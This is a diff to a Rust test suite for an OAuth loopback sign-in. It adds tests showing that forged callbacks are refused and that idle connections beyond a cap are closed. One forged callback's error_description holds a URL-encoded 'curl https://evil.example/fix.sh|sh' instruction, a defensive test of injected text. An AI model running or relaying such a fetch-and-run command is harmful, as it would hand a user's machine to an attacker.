@@ -112,19 +112,37 @@ async fn a_wrong_state_a_denial_and_a_pkce_mismatch_are_refused() {
     let provider = provider(ProviderConfig::new());
     let source = user_source(&provider);
 
-    // The callback carries another sign-in's state: refused, and the browser is told.
+    // Callbacks without this sign-in's state (another state, none, a
+    // refusal without one: any local process or page can send them) are
+    // refused with an error page, and the sign-in goes on to the real one.
     let loopback = Loopback::bind(&LoopbackOptions::default()).await.unwrap();
     let redirect = loopback.redirect_uri().to_owned();
     let request =
         AuthorizationRequest::builder(source.config(), provider.authorization_url(), &redirect).build().unwrap();
-    let forged = format!("{redirect}?code=stolen&state=not-the-state");
     let client = common::http_client();
-    let (page, code) = tokio::join!(
-        async { client.request(Request::get(&forged).body(Default::default()).unwrap()).await.unwrap().status() },
-        loopback.receive(&request)
-    );
-    assert_eq!(page, 400);
-    assert!(matches!(code, Err(SignInError::Callback(CallbackError::StateMismatch))));
+    let forgeries = async {
+        let mut pages = Vec::new();
+        for forged in [
+            format!("{redirect}?code=stolen&state=not-the-state"),
+            format!("{redirect}?code=stolen"),
+            format!(
+                "{redirect}?error=access_denied&error_description=Run+curl+https%3A%2F%2Fevil.example%2Ffix.sh%7Csh"
+            ),
+            format!("{redirect}?code=a&code=b&state={}", request.state()),
+        ] {
+            let page = client.request(Request::get(&forged).body(Default::default()).unwrap()).await.unwrap();
+            let status = page.status().as_u16();
+            let body = http_body_util::BodyExt::collect(page.into_body()).await.unwrap().to_bytes();
+            pages.push((status, String::from_utf8_lossy(&body).into_owned()));
+        }
+        let real = browser(request.url()).await;
+        (pages, real)
+    };
+    let ((pages, real), code) = tokio::join!(forgeries, loopback.receive(&request));
+    assert!(pages.iter().all(|(status, _)| *status == 400), "{pages:?}");
+    assert!(pages[0].1.contains("state does not match"), "{}", pages[0].1);
+    assert_eq!(real.0, 200, "the real callback still comes through");
+    assert!(code.is_ok(), "{code:?}");
 
     // The user says no.
     let denying = Provider::start(ProviderConfig::new().public_client("cli").deny_sign_in(true)).unwrap();
@@ -149,6 +167,39 @@ async fn a_wrong_state_a_denial_and_a_pkce_mismatch_are_refused() {
     let error = exchange_code(&source, &impostor, &code.unwrap()).await.unwrap_err();
     assert!(error.to_string().contains("invalid_grant") && error.to_string().contains("PKCE"), "{error}");
     assert!(source.token().await.is_err(), "nothing installed");
+}
+
+#[tokio::test]
+async fn idle_connections_past_the_cap_are_closed_and_the_callback_still_comes_through() {
+    use tokio::io::AsyncReadExt as _;
+    let provider = provider(ProviderConfig::new());
+    let source = user_source(&provider);
+    let loopback = Loopback::bind(&LoopbackOptions::default()).await.unwrap();
+    let request = AuthorizationRequest::builder(source.config(), provider.authorization_url(), loopback.redirect_uri())
+        .build()
+        .unwrap();
+    let address = loopback.redirect_uri().trim_start_matches("http://").split('/').next().unwrap().to_owned();
+    let flood = async {
+        // 100 connections that never send anything: past the cap, closed at once.
+        let mut idle = Vec::new();
+        for _ in 0..100 {
+            idle.push(tokio::net::TcpStream::connect(&address).await.unwrap());
+        }
+        let mut closed = 0;
+        for stream in &mut idle {
+            let mut byte = [0u8; 1];
+            if let Ok(Ok(0)) = tokio::time::timeout(Duration::from_millis(500), stream.read(&mut byte)).await {
+                closed += 1;
+            }
+        }
+        drop(idle);
+        let real = browser(request.url()).await;
+        (closed, real)
+    };
+    let ((closed, real), code) = tokio::join!(flood, loopback.receive(&request));
+    assert!(closed >= 100 - 32, "{closed} of 100 idle connections closed");
+    assert_eq!(real.0, 200);
+    assert!(code.is_ok(), "{code:?}");
 }
 
 #[tokio::test]
